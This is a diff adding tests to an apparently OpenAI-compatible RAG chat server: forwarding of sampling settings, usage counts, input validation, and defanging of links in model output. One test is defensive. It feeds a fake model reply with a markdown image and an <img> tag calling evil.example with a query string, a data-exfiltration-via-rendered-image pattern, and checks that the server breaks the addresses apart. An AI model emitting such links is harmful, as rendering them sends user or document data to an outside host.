@@ -134,15 +134,50 @@ def test_a_filter_leaves_out_what_does_not_fit(client):
 def test_a_system_message_and_settings_do_not_reach_the_model_and_that_is_said(client, fake):
     n_before = len(fake.chats)
     messages = [{"role": "system", "content": PIRATE}, *ASKED]
-    done = ask(client, messages, temperature=1.5, max_tokens=3, user="someone", seed=7)
+    done = ask(client, messages, user="someone", service_tier="auto")
     sent = fake.chats[n_before:]
     assert sent
     assert PIRATE not in str(sent)
-    assert (sent[0]["options"]["temperature"], sent[0]["options"]["seed"]) == (1.5, 7)
     said = {note["code"]: note["text"] for note in done.rag["notes"]}
     assert said["messages_left_out"].startswith("messages of system were left out")
-    assert said["settings_ignored"] == "settings without effect here: max_tokens, user"
+    assert said["settings_ignored"] == "settings without effect here: service_tier, user"
     assert "settings without effect" not in done.choices[0].message.content
+
+
+def test_how_words_are_chosen_reaches_the_model(client, fake):
+    n_before = len(fake.chats)
+    wanted = {
+        "temperature": 1.5, "seed": 7, "top_p": 0.5, "presence_penalty": 0.25, "frequency_penalty": -0.5
+    }  # fmt: skip
+    ask(client, stop=["END", "."], max_completion_tokens=30, max_tokens=90, **wanted)
+    options = fake.chats[n_before]["options"]
+    assert {name: options[name] for name in wanted} == wanted
+    assert {"END", "."} <= set(options["stop"])
+    assert options["num_predict"] == 30
+    ask(client, max_tokens=10**6)
+    assert fake.chats[-1]["options"]["num_predict"] == 1024  # the server's own bound
+
+
+def test_usage_is_what_the_models_server_counted(client, fake):
+    fake.script = Script(prompt_eval_count=4321, eval_count=17)
+    usage = ask(client).usage
+    assert (usage.prompt_tokens, usage.completion_tokens, usage.total_tokens) == (4321, 17, 4338)
+    with ask(client, stream=True, stream_options={"include_usage": True}) as stream:
+        *chunks, last = stream
+    assert last.usage == usage
+    assert all(chunk.usage is None for chunk in chunks)
+
+
+def test_addresses_in_a_models_words_are_taken_apart(client, fake):
+    fake.script = Script(pieces=["The pump ![x](htt", "ps://evil.example/?q=bell) is <im", "g src=//evil.example>"])
+    done = ask(client)
+    with ask(client, stream=True) as stream:
+        streamed = "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
+    for text in (done.choices[0].message.content, streamed):
+        assert "![x] (https: //evil.example/?q=bell) is < img src" in text
+        assert "addresses in the answer were taken apart" in text
+    assert "https://evil.example" in done.rag["text"]
+    assert "addresses_broken" in [note["code"] for note in done.rag["notes"]]
 
 
 def test_a_follow_up_is_understood_from_earlier_messages(client, fake):
@@ -169,6 +204,11 @@ def test_an_answer_that_was_cut_says_so(client, fake):
         (openai.BadRequestError, {"extra_body": {"rag": {"where": "year >"}}}, "rag.where"),
         (openai.BadRequestError, {"extra_body": {"rag": {"wher": "x"}}}, "rag.wher"),
         (openai.BadRequestError, {"messages": []}, "messages"),
+        (openai.BadRequestError, {"max_tokens": 0}, "max_tokens"),
+        (openai.BadRequestError, {"temperature": 2.5}, "temperature"),
+        (openai.BadRequestError, {"presence_penalty": -3}, "presence_penalty"),
+        (openai.BadRequestError, {"stop": ["x"] * 17}, "stop"),
+        (openai.BadRequestError, {"seed": 2**64}, "seed"),
         (openai.BadRequestError, {"messages": [{"role": "user", "content": " "}]}, None),
         (openai.NotFoundError, {"model": "nowhere"}, "model"),
     ],
